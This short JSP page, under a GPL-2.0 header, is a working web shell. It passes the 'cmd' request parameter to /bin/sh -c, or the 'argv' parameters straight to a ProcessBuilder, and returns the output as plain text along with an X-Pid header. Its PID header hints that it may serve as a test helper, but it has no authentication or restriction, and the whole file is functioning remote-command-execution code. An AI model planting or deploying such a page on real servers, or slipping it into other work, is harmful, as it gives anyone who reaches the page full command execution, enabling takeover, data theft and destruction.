<%-- SPDX-License-Identifier: GPL-2.0 --%>
<%-- Runs ?cmd= by a shell, or ?argv=&argv= without one, by a ProcessBuilder. --%>
<%@ page contentType="text/plain" trimDirectiveWhitespaces="true" %>
<%
	String cmd = request.getParameter("cmd");
	ProcessBuilder builder = cmd != null ?
		new ProcessBuilder("/bin/sh", "-c", cmd) :
		new ProcessBuilder(request.getParameterValues("argv"));

	response.setHeader("X-Pid", "" + ProcessHandle.current().pid());
	out.print(new String(builder.start().getInputStream().readAllBytes()));
%>
